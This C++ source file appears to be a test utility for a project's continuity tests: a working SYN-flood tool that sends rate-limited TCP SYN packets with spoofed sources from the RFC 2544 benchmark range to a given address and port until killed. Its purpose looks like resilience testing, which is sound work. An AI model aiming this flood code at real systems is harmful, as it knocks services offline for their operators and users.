// SYNs from random sources, until it is killed:  syn_flood VIP PORT PER_SECOND
// Sources are of 198.18.0.0/15 (RFC 2544), where nobody answers. VIP is an IPv4 address.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <exception>
#include <numeric>
#include <random>
#include <thread>

#include "tests/continuity/event_loop.h"

namespace guideway::continuity {
namespace {

constexpr std::uint32_t kSources = 0xc6120000;  // 198.18.0.0
constexpr std::uint32_t kSourceMask = 0x0001ffff;

struct Syn {
  iphdr ip;
  tcphdr tcp;
};
static_assert(sizeof(Syn) == 40);

// RFC 1071, over bytes in network order.
std::uint16_t checksum(const void* data, std::size_t bytes, std::uint32_t sum) {
  const auto* words = static_cast<const std::uint16_t*>(data);
  sum = std::accumulate(words, words + bytes / 2, sum);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

// The kernel fills in the IP header's checksum (raw(7)).
Syn make_syn(std::mt19937& random, in_addr_t vip, std::uint16_t port) {
  Syn syn{};
  syn.ip.version = 4;
  syn.ip.ihl = 5;
  syn.ip.ttl = 64;
  syn.ip.protocol = IPPROTO_TCP;
  syn.ip.tot_len = htons(sizeof syn);
  syn.ip.saddr = htonl(kSources | (static_cast<std::uint32_t>(random()) & kSourceMask));
  syn.ip.daddr = vip;
  syn.tcp.source = static_cast<std::uint16_t>(random());
  syn.tcp.dest = htons(port);
  syn.tcp.seq = static_cast<std::uint32_t>(random());
  syn.tcp.doff = 5;
  syn.tcp.syn = 1;
  syn.tcp.window = 0xffff;
  const std::uint32_t pseudo = checksum(&syn.ip.saddr, 8, htons(IPPROTO_TCP)) ^ 0xffffU;
  syn.tcp.check = checksum(&syn.tcp, sizeof syn.tcp, pseudo + htons(sizeof syn.tcp));
  return syn;
}

[[noreturn]] void flood(const char* vip, std::uint16_t port, int per_second) {
  const Descriptor raw(must(socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW), "socket"));
  sockaddr_in to{};
  to.sin_family = AF_INET;
  must(inet_pton(AF_INET, vip, &to.sin_addr) - 1, "the VIP");
  std::mt19937 random(std::random_device{}());
  const int per_turn = std::max(1, per_second / 100);
  for (;;) {
    for (int i = 0; i < per_turn; i++) {
      const Syn syn = make_syn(random, to.sin_addr.s_addr, port);
      must(static_cast<int>(sendto(raw.get(), &syn, sizeof syn, 0, reinterpret_cast<sockaddr*>(&to), sizeof to)),
           "sendto");
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
}

}  // namespace
}  // namespace guideway::continuity

int main(int argc, char** argv) {
  if (argc != 4) {
    std::fprintf(stderr, "usage: syn_flood VIP PORT PER_SECOND\n");
    return 2;
  }
  try {
    guideway::continuity::flood(argv[1], static_cast<std::uint16_t>(std::atoi(argv[2])), std::atoi(argv[3]));
  } catch (const std::exception& error) {
    std::fprintf(stderr, "syn_flood: %s\n", error.what());
    return 1;
  }
}
